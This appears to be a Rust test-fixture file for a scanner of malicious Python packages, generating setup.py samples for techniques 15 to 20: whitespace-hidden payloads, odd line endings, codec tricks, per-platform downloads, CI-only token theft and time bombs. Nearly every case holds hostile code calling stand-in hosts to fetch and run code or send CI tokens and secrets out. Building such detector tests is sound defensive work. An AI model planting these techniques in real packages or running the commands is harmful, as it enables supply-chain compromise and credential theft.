//! Techniques 15 to 20: text that is not read as it looks, and payloads that wait for their victim.

use crate::case::{Cases, Trigger::Build};
use crate::package::setup;

pub(crate) fn add(cases: &mut Cases) {
    out_of_sight(cases);
    codecs(cases);
    gates(cases);
}

fn out_of_sight(cases: &mut Cases) {
    let far = || " ".repeat(320);
    cases
        .technique(15, "payload-off-screen", Build)
        .case("after-import", setup("").bytes("setup.py", format!(
            "from setuptools import setup{};__import__('os').system('curl 192.0.2.9/a|sh')\nsetup(name='x', version='1.0.2')\n",
            far()
        )))
        .case("after-version", setup("").bytes("setup.py", format!(
            "from setuptools import setup\nVERSION = '1.0.2'{0}{0};exec(__import__('base64').b64decode('{1}'))\nsetup(name='x', version=VERSION)\n",
            far(),
            crate::encode::base64(b"print('inert marker')")
        )))
        .case("tabs", setup("").bytes("setup.py", format!(
            "import setuptools, os{};import urllib.request as u; exec(u.urlopen('http://stage.example.invalid/w').read())\nsetuptools.setup(name='x', version='1.0.2')\n",
            "\t".repeat(120)
        )));
    cases
        .technique(16, "strange-line-ends", Build)
        .case("form-feed", setup("").bytes("setup.py",
            b"from setuptools import setup\n# settings\x0c\n\x0cimport os; os.system('curl http://192.0.2.8/f | sh')\nsetup(name='x', version='1.0.2')\n".to_vec()))
        .case("carriage-return", setup("").bytes("setup.py",
            b"from setuptools import setup\n# nothing to see here\rimport os\ros.system('wget -qO- stage.example.invalid/r | sh')\r# end\nsetup(name='x', version='1.0.2')\n".to_vec()))
        .case("substitute", setup("").bytes("setup.py",
            b"from setuptools import setup\nsetup(name='x', version='1.0.2')\n# end of file \x1a\nexec(__import__('urllib.request').request.urlopen('http://192.0.2.8/z').read())\n".to_vec()));
}

fn codecs(cases: &mut Cases) {
    cases
        .technique(17, "declared-codec-hides-code", Build)
        .case("utf-7", setup("# -*- coding: utf-7 -*-\nfrom setuptools import setup\n# helpful comment +AAo-import os+ADs-os.system('echo inert')+AAo-\nsetup(name='«name»', version='«version»')\n"))
        .case("rot13", setup("# coding: rot13\nvzcbeg bf\nbf.flfgrz('phey uggc://fgntr.rknzcyr.vainyvq | fu')\nsebz frghcgbbyf vzcbeg frghc\nfrghc(anzr='k', irefvba='1.0.2')\n"))
        .case("raw-unicode-escape", setup("#!/usr/bin/env python\n# vim: set fileencoding=raw_unicode_escape :\nfrom setuptools import setup\n# note \\u000aimport os\\u000aos.system('curl 192.0.2.4/u | sh')\nsetup(name='«name»', version='«version»')\n"));
}

fn gates(cases: &mut Cases) {
    cases
        .technique(18, "one-download-per-platform", Build)
        .case(
            "if-chain",
            setup(
                r#"
import os, sys, stat, subprocess, tempfile
import urllib.request
from setuptools import setup, find_packages

base = "https://files.example.invalid/agent/"
if sys.platform == "win32":
    name = "agent.exe"
elif sys.platform == "darwin":
    name = "agent-mac"
else:
    name = "agent-linux"
path = os.path.join(tempfile.gettempdir(), name)
urllib.request.urlretrieve(base + name, path)
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
subprocess.Popen([path])
«setup»
"#,
            ),
        )
        .case(
            "dictionary",
            setup(
                r#"
import platform, os, requests
from setuptools import setup, find_packages

SOURCES = {
    "Windows": ("http://192.0.2.20/w", r"C:\Users\Public\svc.exe"),
    "Darwin": ("http://192.0.2.20/m", "/var/tmp/.svc"),
    "Linux": ("http://192.0.2.20/l", "/tmp/.svc"),
}
address, target = SOURCES[platform.system()]
with open(target, "wb") as out:
    out.write(requests.get(address).content)
os.chmod(target, 0o755)
os.system(target)
«setup»
"#,
            ),
        )
        .case(
            "match",
            setup(
                r#"
import os, sys, urllib.request as request
from setuptools import setup, find_packages

def fetch(name, start):
    with request.urlopen(f"https://stage.example.invalid/{name}") as page, open(name, "wb") as f:
        f.write(page.read())
    os.chmod(name, 0o700)
    start(name)

match sys.platform:
    case "win32":
        fetch("u.exe", os.startfile)
    case "darwin":
        fetch("u.bin", lambda n: os.spawnl(os.P_NOWAIT, n, n))
    case _:
        fetch("u", lambda n: os.execv("./" + n, [n]) if os.fork() == 0 else None)
«setup»
"#,
            ),
        );
    cases
        .technique(19, "only-in-ci", Build)
        .case(
            "github-actions",
            setup(
                r#"
import os
from setuptools import setup, find_packages
if os.getenv("GITHUB_ACTIONS") == "true":
    import urllib.request, json
    tokens = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}
    urllib.request.urlopen("https://collect.example.invalid/gh", json.dumps(tokens).encode())
«setup»
"#,
            ),
        )
        .case(
            "not-in-ci",
            setup(
                r#"
import os, subprocess
from setuptools import setup, find_packages
if not any(name in os.environ for name in ("CI", "TRAVIS", "GITLAB_CI")):
    subprocess.Popen("curl -s 192.0.2.15/x | sh", shell=True)
«setup»
"#,
            ),
        )
        .case(
            "gitlab-job-token",
            setup(
                r#"
from os import environ as env
from setuptools import setup, find_packages
if {"GITLAB_CI", "CI_JOB_TOKEN"} <= set(env):
    import http.client
    c = http.client.HTTPConnection("192.0.2.16", 8000)
    c.request("POST", "/", env["CI_JOB_TOKEN"] + "|" + env.get("TWINE_PASSWORD", ""))
«setup»
"#,
            ),
        );
    cases
        .technique(20, "time-bomb", Build)
        .case(
            "datetime",
            setup(
                r#"
import datetime
from setuptools import setup, find_packages
if datetime.datetime.now() > datetime.datetime(2026, 3, 1):
    import urllib.request
    exec(urllib.request.urlopen("http://stage.example.invalid/late").read())
«setup»
"#,
            ),
        )
        .case(
            "epoch",
            setup(
                r#"
import time, os
from setuptools import setup, find_packages
if time.time() >= 1772323200:
    os.system("curl http://192.0.2.30/t | bash")
«setup»
"#,
            ),
        )
        .case(
            "weekday",
            setup(
                r#"
from datetime import date
from setuptools import setup, find_packages
import base64
today = date.today()
if today.weekday() in (5, 6) and today.isoformat() > "2026-01-01":
    exec(base64.b64decode("«fetch|b64»"))
«setup»
"#,
            ),
        );
}
